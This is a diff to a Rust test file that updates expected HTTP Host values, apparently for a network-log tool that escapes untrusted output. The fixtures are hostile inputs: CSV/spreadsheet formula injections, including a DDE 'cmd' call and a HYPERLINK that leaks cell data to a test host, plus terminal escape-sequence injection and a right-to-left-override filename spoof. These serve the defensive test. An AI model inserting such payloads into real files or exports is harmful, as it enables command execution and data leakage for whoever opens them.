@@ -50,8 +50,7 @@ fn run_attributed(args: &[&str]) -> Vec<u8> {
 }
 
 /// The HTTP Host of the request to 192.0.2.(10+i), as tshark's http.host shows it. The
-/// newline ends the header line; the invalid-UTF-8 request yields no host here (our parser
-/// needs a UTF-8 head), so that flow is named from DNS instead.
+/// newline ends the header line; invalid UTF-8 bytes are shown as `\xNN`, as in dns.log.
 const HTTP_HOSTS: [Option<&str>; 8] = [
     Some("=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"),
     Some("+cmd|' /C calc'!A0"),
@@ -59,7 +58,7 @@ const HTTP_HOSTS: [Option<&str>; 8] = [
     Some("-2+3+cmd"),
     Some("\x1b[31mred\x1b]0;title\x07"),
     Some("new"),
-    None,
+    Some("bad\\xff\\xfeutf8"),
     Some("\u{202e}gpj.exe"),
 ];
 
